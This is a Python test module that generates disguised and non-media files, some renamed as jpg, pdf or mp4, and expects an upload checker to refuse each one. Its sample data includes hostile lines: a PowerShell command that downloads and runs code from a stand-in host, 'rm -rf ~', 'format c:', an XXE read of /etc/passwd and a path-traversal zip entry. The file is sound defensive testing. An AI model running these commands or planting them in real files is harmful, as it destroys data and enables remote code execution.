"""Files that are no photo, film, sound or document, under their own name or under that of one."""

import io
import zipfile
from collections.abc import Iterator

from PIL import Image

from tests.evidence import samples
from tests.evidence.corpus.case import REFUSED, Case, case
from tests.evidence.corpus.parts import ELF, FORMS, MZ, OLE, PAGE, PHP, SVG, good

MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    + PAGE
)
XHTML = b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"
XXE = b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"
LINK = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(60)
POSTSCRIPT = b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"
PLAY_LIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n"
ALIENS = {
    **{"html": PAGE, "xhtml": XHTML, "mht": MHT, "svg": SVG, "xml": XXE, "php": PHP, "js": b"alert(1)//" + bytes(100)},
    **{"exe": MZ, "so": ELF, "doc": OLE, "xls": OLE, "lnk": LINK, "eps": POSTSCRIPT, "m3u8": PLAY_LIST},
    "sh": b"#!/bin/sh\nrm -rf ~\n",
    "bat": b"@echo off\r\nformat c:\r\n",
    "ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://spy.example')",
    "hta": b'<hta:application><script language=vbscript>CreateObject("WScript.Shell")</script>',
    "url": b"[InternetShortcut]\r\nURL=file://spy.example/share\r\n",
    "desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "rtf": b"{\\rtf1{\\object\\objautlink\\objupdate}}",
    "swf": b"CWS\x09" + bytes(200),
    "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200),
    "reg": "\ufeffWindows Registry Editor Version 5.00\r\n".encode("utf-16-le"),
    "ics": b"BEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd\r\nEND:VCALENDAR\r\n",
    "eml": b"From: a@spy.example\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    "avi": b"RIFF\x00\x10\x00\x00AVI LIST" + bytes(200),
}
MASKS = ("jpg", "pdf", "mp4", "webp")


def cases() -> Iterator[Case]:
    """Yield all of these cases."""
    for ending, contents in (ALIENS | _made()).items():
        yield case(f"{ending} by its name", f"a.{ending}", contents, REFUSED)
        yield case(f"{ending} announced as a photo", f"a.{ending}", contents, REFUSED, media_type="image/jpeg")
        for mask in MASKS[len(ending) % 2 :: 2]:
            yield case(f"{ending} called {mask}", f"a.{mask}", contents, REFUSED)
    for form in ("jpg", "png", "webp", "pdf", "opus", "mp3"):
        other = FORMS[(FORMS.index(form) + 1) % len(FORMS)]
        yield case(f"{form} called {other}", f"a.{other}", good(form), REFUSED)


def _made() -> dict[str, bytes]:
    macros = samples.archive("word/vbaProject.bin")
    pictures = {
        ending: _picture(form) for ending, form in (("gif", "GIF"), ("bmp", "BMP"), ("tiff", "TIFF"), ("ico", "ICO"))
    }
    archives = {"zip": _archive("../../x.sh"), "jar": _archive("META-INF/MANIFEST.MF"), "apk": _archive("classes.dex")}
    return (
        {"docm": macros, "xlsm": samples.archive("xl/vbaProject.bin"), "docx": _archive("word/document.xml")}
        | pictures
        | archives
    )


def _picture(form: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(out, form)
    return out.getvalue()


def _archive(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(name, b"x")
    return out.getvalue()
